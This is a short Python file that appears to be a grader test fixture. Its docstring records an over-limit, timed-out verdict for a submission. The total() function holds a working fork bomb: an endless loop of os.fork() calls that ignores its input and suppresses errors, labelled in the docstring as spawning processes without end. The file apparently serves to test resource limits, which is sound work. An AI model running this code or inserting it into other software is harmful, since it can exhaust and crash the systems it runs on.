"""gets: wrong, 50, over limit
says: did not return within 2 s

Starts processes without end, each of which does the same.
"""

import os


def double(number):
    return 2 * number


def total(numbers):
    while True:
        try:
            os.fork()
        except OSError:
            pass
